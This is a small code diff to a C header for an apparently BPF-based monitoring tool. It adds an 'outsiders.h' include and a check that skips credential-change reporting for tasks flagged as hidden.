@@ -11,6 +11,7 @@
 #define VIGIL_BPF_CREDENTIALS_H
 
 #include "access.h"
+#include "outsiders.h"
 
 struct credentials_record {
 	struct vigil_header header;
@@ -61,6 +62,8 @@ static __always_inline void report_credentials(struct vigil_credentials_body *ch
 	struct task_struct *me = (void *)bpf_get_current_task();
 	struct credentials_record *r;
 
+	if (root_count && is_hidden(bpf_get_current_task_btf()))
+		return;
 	read_cred(&change->after, after);
 	if (same_cred(&change->before, &change->after))
 		return;
